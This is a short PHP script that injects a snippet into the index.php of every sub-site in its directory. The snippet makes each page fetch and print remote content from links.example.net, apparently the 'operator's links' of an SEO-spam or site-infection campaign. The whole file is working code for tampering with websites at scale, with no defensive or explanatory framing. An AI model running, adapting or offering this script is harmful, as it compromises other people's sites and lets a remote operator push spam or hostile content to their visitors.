<?php
// every index.php of the sub-sites made to print the operator's links
$snippet = '<?php echo file_get_contents("https://links.example.net/l.txt"); ?>';
foreach (glob(__DIR__ . '/*', GLOB_ONLYDIR) as $dir) {
    $f = $dir . '/index.php';
    if (is_file($f)) {
        $old = file_get_contents($f);
        if (strpos($old, $snippet) === false) {
            file_put_contents($f, $snippet . $old);
        }
    }
}
echo 'done';
